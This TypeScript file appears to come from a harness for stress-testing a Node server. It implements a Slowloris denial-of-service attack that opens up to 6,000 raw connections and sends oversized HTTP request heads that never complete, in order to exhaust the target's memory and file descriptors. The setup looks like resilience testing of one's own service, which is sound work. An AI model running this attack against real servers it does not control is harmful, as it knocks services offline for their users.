import type { Assault, Attack } from './attack.ts'
import { fileLimitOf } from './idle-connections.ts'
import { countHttp } from './raw-http.ts'
import { crowd, RawSocket } from './raw-socket.ts'

/** Maximum number of connections: a node allows 10,000, and the attacker needs a file descriptor for each as well. */
const most = 6000
const headBytes = 63 * 1024

/** The start of a request head with a number of headers. */
function headWith(count: number, value: string): Buffer {
  const headers = Array.from({ length: count }, (_, n) => `h${n}: ${value}\r\n`)
  return Buffer.from(`GET /healthz HTTP/1.1\r\n${headers.join('')}`)
}

/** One very long header, some long ones, and many short ones, whose overhead exceeds their bytes. */
const heads = [
  Buffer.from(`GET /healthz HTTP/1.1\r\nx: ${'y'.repeat(headBytes)}`),
  headWith(60, 'y'.repeat(1000)),
  headWith(800, 'y'),
]

/** Slowloris: request heads that never end. */
export const slowHeads: Attack = {
  name: 'slow-heads',
  description: `up to ${most} connections with heads of up to 63 KiB that never end`,
  goal: { megabytes: 250 },
  async run(assault) {
    const files = Math.min(fileLimitOf(process.pid) - 200, fileLimitOf(assault.victim.node.pid))
    await crowd(Math.min(most, files), assault.signal, (n) => unfinishedHead(assault, heads[n % heads.length]))
  },
}

async function unfinishedHead(assault: Assault, head: Buffer = Buffer.alloc(0)): Promise<void> {
  const raw = await RawSocket.open(assault)
  if (raw === undefined) return
  if (await raw.send(head, assault.signal)) await raw.reading().hold(assault.signal)
  await countHttp(raw, assault)
}
